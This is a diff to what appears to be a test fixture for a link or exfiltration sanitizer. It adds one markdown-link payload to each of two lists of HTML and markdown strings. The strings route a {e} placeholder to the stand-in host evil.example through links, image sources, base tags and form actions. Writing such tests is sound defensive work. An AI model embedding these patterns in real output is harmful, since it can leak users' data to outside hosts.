@@ -259,6 +259,7 @@ MOVED = [
     "http://{i}/?q={e}",
     "http://{i}.evil.example/",
     "http://{i}@evil.example/",
+    "[x](https:// https://evil.example/?q=),{e}",
     # by which a page says where its links and fields go
     "<base href='https://evil.example/'><img src='{e}'>",
     '<base href="//evil.example/">\n\nhello ![x]({e}) and so',
@@ -397,6 +398,7 @@ STAYS = [
     "<base href='https://wiki.example/'> <img src='{e}'>",
     '<form action="https://evil.example/"><input value="x y"></form> {e}',
     "<p href='https://evil.example/'> {e}",
+    "[x](https://evil.example/ 'a title'),{e}",
 ]
 
 
